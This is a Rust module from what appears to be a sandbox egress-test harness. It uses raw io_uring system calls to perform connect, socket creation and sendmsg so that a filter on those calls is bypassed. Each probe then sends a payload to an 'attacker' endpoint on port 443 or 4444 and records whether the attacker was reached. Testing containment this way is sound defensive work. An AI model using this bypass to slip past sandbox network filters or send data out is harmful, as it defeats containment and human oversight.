//! io_uring by its bare system calls: the way round a filter on `connect` and `sendmsg`.

use std::ptr;

use crate::sys::{Fd, as_bytes, check, in4, receive, socket};
use crate::{Attempt, BANNER, Targets, Verdict};

const OP_SENDMSG: u8 = 9;
const OP_CONNECT: u8 = 16;
const OP_SOCKET: u8 = 45;
const ENTER_GETEVENTS: u32 = 1;
const ENTER_SQ_WAKEUP: u32 = 2;
const SETUP_SQPOLL: u32 = 2;
const OFFSET_SQES: i64 = 0x1000_0000;
const SQE_SIZE: usize = 64;
/// More than one page of rings is never needed for four entries.
const RING_SIZE: usize = 4096;

/// `struct io_uring_params`: 10 words, then the offsets of both rings.
#[repr(C)]
#[derive(Default)]
struct Params {
    head: [u32; 10],
    sq: [u32; 10],
    cq: [u32; 10],
}

pub(crate) fn connect(to: &Targets) -> Attempt {
    let fd = socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    connected(to, &fd, &Ring::new(0)?)
}

/// Not even the socket is made by a system call.
pub(crate) fn socket_and_connect(to: &Targets) -> Attempt {
    let ring = Ring::new(0)?;
    let made = ring.submit(OP_SOCKET, libc::AF_INET, 0, 0, libc::SOCK_STREAM as u64)?;
    outcome("socket", made)?;
    connected(to, &Fd(made), &ring)
}

/// A thread of the kernel's does what this process wrote into memory.
pub(crate) fn sqpoll(to: &Targets) -> Attempt {
    let fd = socket(libc::AF_INET, libc::SOCK_STREAM, 0)?;
    connected(to, &fd, &Ring::new(SETUP_SQPOLL)?)
}

fn connected(to: &Targets, fd: &Fd, ring: &Ring) -> Attempt {
    let address = in4(to.v4()?, 443);
    let (pointer, length) = as_bytes(&address);
    outcome("connect", ring.submit(OP_CONNECT, fd.0, pointer as u64, 0, u64::from(length))?)?;
    let reply = receive(fd.0, 700);
    if String::from_utf8_lossy(&reply).contains(BANNER) {
        return Ok(Verdict::Out("heard the attacker".to_owned()));
    }
    Ok(Verdict::Silent(format!("connected, heard {} bytes", reply.len())))
}

pub(crate) fn sendmsg(to: &Targets) -> Attempt {
    let fd = socket(libc::AF_INET, libc::SOCK_DGRAM, 0)?;
    let mut address = in4(to.v4()?, 4444);
    let mut data = to.payload("by ring");
    let mut iov = libc::iovec { iov_base: data.as_mut_ptr().cast(), iov_len: data.len() };
    // SAFETY: all-zero is a valid message header.
    let mut message: libc::msghdr = unsafe { std::mem::zeroed() };
    message.msg_name = (&raw mut address).cast();
    message.msg_namelen = size_of_val(&address) as u32;
    message.msg_iov = &raw mut iov;
    message.msg_iovlen = 1;
    let result = Ring::new(0)?.submit(OP_SENDMSG, fd.0, (&raw const message) as u64, 1, 0)?;
    outcome("sendmsg", result)?;
    match receive(fd.0, 250).len() {
        0 => Ok(Verdict::Silent("the ring took it".to_owned())),
        _ => Ok(Verdict::Out("heard the attacker".to_owned())),
    }
}

fn outcome(what: &str, result: i32) -> Result<(), Verdict> {
    if result < 0 {
        return Err(Verdict::Refused(format!("{what}: {}", std::io::Error::from_raw_os_error(-result))));
    }
    Ok(())
}

/// A ring whose mappings live as long as the process.
struct Ring {
    fd: Fd,
    params: Params,
    rings: *mut u8,
    entries: *mut u8,
    completions: *mut u8,
}

impl Ring {
    fn new(flags: u32) -> Result<Self, Verdict> {
        let mut params = Params::default();
        // sq_entries, cq_entries, flags
        params.head[2] = flags;
        // SAFETY: the structure has the kernel's layout and outlives the call.
        let fd = unsafe { libc::syscall(libc::SYS_io_uring_setup, 4, &raw mut params) };
        let fd = Fd(check("io_uring_setup", fd)? as i32);
        let rings = map(&fd, RING_SIZE, 0)?;
        let entries = map(&fd, 4 * SQE_SIZE, OFFSET_SQES)?;
        let completions = map(&fd, RING_SIZE, 0x800_0000)?;
        Ok(Ring { fd, params, rings, entries, completions })
    }

    /// One entry in, one completion out.
    fn submit(&self, op: u8, fd: i32, address: u64, length: u32, offset: u64) -> Result<i32, Verdict> {
        let word = |base: *mut u8, offset: u32| base.wrapping_add(offset as usize).cast::<u32>();
        // SAFETY: the kernel said where in its mappings these words are; the entry is ours until the tail moves.
        unsafe {
            let tail = word(self.rings, self.params.sq[1]);
            let next = tail.read_volatile();
            let index = next & 3;
            let entry = self.entries.add(index as usize * SQE_SIZE);
            ptr::write_bytes(entry, 0, SQE_SIZE);
            entry.write(op);
            entry.add(4).cast::<i32>().write(fd);
            entry.add(8).cast::<u64>().write(offset);
            entry.add(16).cast::<u64>().write(address);
            entry.add(24).cast::<u32>().write(length);
            word(self.rings, self.params.sq[6]).add(index as usize).write_volatile(index);
            std::sync::atomic::fence(std::sync::atomic::Ordering::Release);
            tail.write_volatile(next + 1);
        }
        // SAFETY: no pointers but the null set.
        let entered = unsafe {
            libc::syscall(
                libc::SYS_io_uring_enter,
                self.fd.0,
                1,
                1,
                ENTER_GETEVENTS | ENTER_SQ_WAKEUP,
                ptr::null::<libc::sigset_t>(),
                8,
            )
        };
        check("io_uring_enter", entered)?;
        // SAFETY: one completion was waited for; its result is the second word behind the 64-bit user data.
        unsafe {
            let head = word(self.completions, self.params.cq[0]);
            let at = head.read_volatile();
            let result = self
                .completions
                .add(self.params.cq[5] as usize + (at as usize & 7) * 16 + 8)
                .cast::<i32>()
                .read_volatile();
            head.write_volatile(at + 1);
            Ok(result)
        }
    }
}

fn map(ring: &Fd, size: usize, offset: i64) -> Result<*mut u8, Verdict> {
    let flags = libc::MAP_SHARED | libc::MAP_POPULATE;
    // SAFETY: a new mapping at an address of the kernel's choice; it lives as long as the process.
    let at = unsafe {
        libc::mmap(ptr::null_mut(), size, libc::PROT_READ | libc::PROT_WRITE, flags, ring.0, offset)
    };
    if at == libc::MAP_FAILED {
        check("mmap of the ring", -1)?;
    }
    Ok(at.cast())
}
